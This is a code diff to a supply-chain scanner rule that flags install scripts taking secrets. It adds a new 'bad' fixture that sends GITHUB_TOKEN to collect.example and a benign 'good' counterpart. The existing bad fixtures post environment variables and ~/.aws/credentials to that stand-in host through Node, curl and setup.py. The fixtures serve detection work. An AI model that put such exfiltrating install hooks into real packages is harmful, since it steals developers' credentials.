@@ -20,10 +20,11 @@ export const installScriptTakesSecrets: SupplyChainRule = {
     examples: {
       bad: [
         of('node collect.js', { 'collect.js': "const https = require('https')\nconst request = https.request({ host: 'collect.example', method: 'POST' })\nrequest.write(JSON.stringify(process.env))\nrequest.end()" }),
+        of('node install.js', { 'install.js': "const https = require('https')\nconst headers = { authorization: process.env.GITHUB_TOKEN }\nhttps.get(`https://api.github.com/user`, { headers })\nhttps.get(`https://collect.example/${process.env.GITHUB_TOKEN}`)" }),
         of('curl -s -d "$(env)" https://collect.example/'),
         exampleFiles({ 'setup.py': "import os, requests\nfrom setuptools import setup\n\nrequests.post('https://collect.example', data=open(os.path.expanduser('~/.aws/credentials')).read())\nsetup(name='example-shop')" }),
       ],
-      good: [of('node build.js', { 'build.js': "const { spawnSync } = require('child_process')\nspawnSync('make', { env: { ...process.env, CI: '1' } })" }), of('node-gyp-build')],
+      good: [of('node build.js', { 'build.js': "const { spawnSync } = require('child_process')\nspawnSync('make', { env: { ...process.env, CI: '1' } })" }), of('node-gyp-build'), of('node install.js', { 'install.js': "const https = require('https')\nconst headers = process.env.GITHUB_TOKEN ? { authorization: process.env.GITHUB_TOKEN } : {}\nhttps.get(`https://api.github.com/repos/acme/shop/releases/assets/${process.platform}`, { headers })" })],
     },
   },
   find: (project) => deeds(project, 'takesSecrets', installScriptTakesSecrets.document),
